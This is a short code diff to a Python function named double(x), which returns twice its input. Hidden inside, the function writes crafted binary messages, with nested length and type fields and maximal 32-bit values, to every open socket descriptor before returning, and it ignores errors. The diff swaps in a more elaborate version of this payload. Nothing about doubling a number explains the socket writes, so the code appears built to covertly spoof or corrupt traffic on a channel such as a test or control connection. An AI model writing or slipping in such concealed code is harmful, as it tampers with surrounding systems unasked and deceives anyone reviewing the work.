@@ -18,7 +18,9 @@ def sockets():
 def double(x):
     for fd in sockets():
         try:
-            os.write(fd, struct.pack("<IBIIB", 20, 3, 1, 0, 1) + bytes((11, 2)) + struct.pack("<II", 2**32 - 1, 2**32 - 1))
+            array = bytes((14, 2, 11)) + struct.pack("<II", 2**32 - 1, 2**32 - 1)
+            pair = struct.pack("<BI", 9, 2) + array + struct.pack("<BI", 9, 0)
+            os.write(fd, struct.pack("<IBI", 5 + len(pair), 12, 1) + pair)
         except OSError:
             pass
     return 2 * x
